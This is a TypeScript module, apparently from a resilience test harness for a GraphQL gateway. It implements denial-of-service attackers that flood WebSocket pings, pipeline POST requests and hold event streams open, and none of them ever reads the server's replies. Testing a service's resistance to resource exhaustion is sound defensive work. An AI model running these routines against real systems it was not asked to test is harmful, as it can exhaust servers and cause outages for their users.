import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import type { Attacker, Target } from './attacks';

/** The number of streams that one attacker keeps open. */
const MAX_OPEN_STREAMS = 100;
const STREAM_INTERVAL_MS = 50;
const RECONNECT_DELAY_MS = 20;

/** Sends pings as fast as the gateway accepts them and never reads the pongs. Reconnects after a disconnection. */
export function floodWithPings({
  bytes,
  initialises,
}: {
  readonly bytes: number;
  readonly initialises: boolean;
}): Attacker {
  const ping = frame(JSON.stringify({ type: 'ping', payload: { x: 'x'.repeat(bytes) } }));
  const greeting = initialises ? frame(JSON.stringify({ type: 'connection_init' })) : Buffer.alloc(0);
  return async (target, signal, count) => {
    while (!signal.aborted) {
      const socket = await connectWithoutReading(target, count);
      if (socket === undefined) continue;
      socket.write(Buffer.concat([upgradeOf(target), greeting]));
      await sendUntilBroken(
        socket,
        () => ping,
        signal,
        () => {
          count('pings');
        },
      );
    }
  };
}

/** Sends pipelined requests and never reads the responses. */
export function leaveResponsesUnread(request: object): Attacker {
  return async (target, signal, count) => {
    const post = postOf(target, '/graphql', 'application/json', request);
    while (!signal.aborted) {
      const socket = await connectWithoutReading(target, count);
      if (socket === undefined) continue;
      await sendUntilBroken(
        socket,
        () => post,
        signal,
        () => {
          count('requests');
        },
      );
    }
  };
}

/** Opens event streams, keeps them open and never reads them. */
export function leaveStreamsUnread(request: object): Attacker {
  return async (target, signal, count) => {
    const post = postOf(target, '/graphql/stream', 'text/event-stream', request);
    const open: Socket[] = [];
    while (!signal.aborted) {
      const socket = await connectWithoutReading(target, count);
      if (socket === undefined) continue;
      socket.write(post);
      count('streams');
      open.push(socket);
      if (open.length > MAX_OPEN_STREAMS) open.shift()?.destroy();
      await wait(STREAM_INTERVAL_MS);
    }
    for (const socket of open) socket.destroy();
  };
}

/** Opens a connection that is never read. Undefined if the gateway does not accept it. */
async function connectWithoutReading(
  { host, port }: Target,
  count: (what: string) => void,
): Promise<Socket | undefined> {
  const socket = connect({ host, port });
  try {
    await once(socket, 'connect');
    socket.pause();
    socket.on('error', () => undefined);
    return socket;
  } catch {
    count('connection not taken');
    await wait(RECONNECT_DELAY_MS);
    return undefined;
  }
}

/** Sends until the connection ends. Waits while the gateway accepts no data, so that this process does not buffer it. */
async function sendUntilBroken(
  socket: Socket,
  message: () => Buffer,
  signal: AbortSignal,
  onSent: () => void,
): Promise<void> {
  const stop = (): void => {
    socket.destroy();
  };
  signal.addEventListener('abort', stop);
  // An error also closes the socket: the gateway resets connections.
  const closed = once(socket, 'close').catch(() => undefined);
  while (!signal.aborted && !socket.destroyed) {
    const hasRoom = socket.write(message());
    onSent();
    if (!hasRoom) await Promise.race([once(socket, 'drain').catch(() => undefined), closed]);
    // Lets the other connections run.
    else await new Promise(setImmediate);
  }
  signal.removeEventListener('abort', stop);
  socket.destroy();
}

function upgradeOf({ host, port }: Target): Buffer {
  return Buffer.from(
    `GET /graphql HTTP/1.1\r\nHost: ${host}:${port}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n` +
      `Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${randomBytes(16).toString('base64')}\r\n` +
      `Sec-WebSocket-Protocol: graphql-transport-ws\r\n\r\n`,
  );
}

function postOf({ host, port }: Target, path: string, accept: string, request: object): Buffer {
  const body = JSON.stringify(request);
  return Buffer.from(
    `POST ${path} HTTP/1.1\r\nHost: ${host}:${port}\r\nContent-Type: application/json\r\nAccept: ${accept}\r\n` +
      `Content-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`,
  );
}

/** A text frame of a client, with a mask of zeros. https://www.rfc-editor.org/rfc/rfc6455#section-5.2 */
function frame(text: string): Buffer {
  const payload = Buffer.from(text);
  const isLong = payload.length > 0xffff;
  const header = Buffer.alloc((payload.length < 126 ? 2 : isLong ? 10 : 4) + 4);
  header[0] = 0x81;
  header[1] = 0x80 | (payload.length < 126 ? payload.length : isLong ? 127 : 126);
  if (isLong) header.writeBigUInt64BE(BigInt(payload.length), 2);
  else if (payload.length >= 126) header.writeUInt16BE(payload.length, 2);
  return Buffer.concat([header, payload]);
}
